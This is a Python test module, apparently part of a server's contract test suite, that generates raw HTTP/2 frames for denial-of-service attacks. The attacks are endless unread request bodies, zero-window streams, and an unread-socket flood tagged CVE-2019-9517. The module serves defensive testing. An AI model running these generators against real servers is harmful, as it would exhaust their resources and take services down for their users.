"""Callers that hold what they can: unread requests, and responses that they don't read."""

from __future__ import annotations

import itertools
from collections.abc import Iterator

from hpack import Encoder
from hyperframe.frame import DataFrame, SettingsFrame, WindowUpdateFrame

from tests.contract.fronts.attacks.attack import Attack, opened
from tests.faults.raw_http2 import message

_LARGEST_WINDOW = 2**31 - 1


def _unread_bodies(path: bytes) -> Iterator[bytes]:
    """Streams with a window of bytes each, of a message that never ends."""
    encoder = Encoder()
    prefix = b"\0" + (4 << 20).to_bytes(4, "big")
    body = DataFrame(1, bytes(16_000)).serialize()
    for stream in itertools.count(1, 2):
        chunk = opened(path, encoder, stream) + DataFrame(stream, prefix).serialize()
        yield chunk + (body[:5] + stream.to_bytes(4, "big") + body[9:]) * 4


def unread_responses(request: bytes) -> Attack:
    """Calls whose responses can't be sent: the window of each stream is 0."""
    return Attack("responses that nobody reads", lambda path: _calls(path, request, window=0))


def unread_socket(request: bytes) -> Attack:
    """Calls whose responses may be sent, for a caller that must not read from its socket."""
    return Attack(
        "unread socket",
        lambda path: itertools.chain(
            [WindowUpdateFrame(0, _LARGEST_WINDOW - 65_535).serialize()],
            _calls(path, request, window=_LARGEST_WINDOW),
        ),
        "CVE-2019-9517",
    )


def _calls(path: bytes, request: bytes, window: int) -> Iterator[bytes]:
    encoder = Encoder()
    yield SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: window}).serialize()
    for stream in itertools.count(1, 2):
        data = DataFrame(stream, message(request), flags=["END_STREAM"])
        yield opened(path, encoder, stream) + data.serialize()


UNREAD_BODIES = Attack("requests that nobody reads", _unread_bodies)
HOLDING = (UNREAD_BODIES, unread_responses(b""))
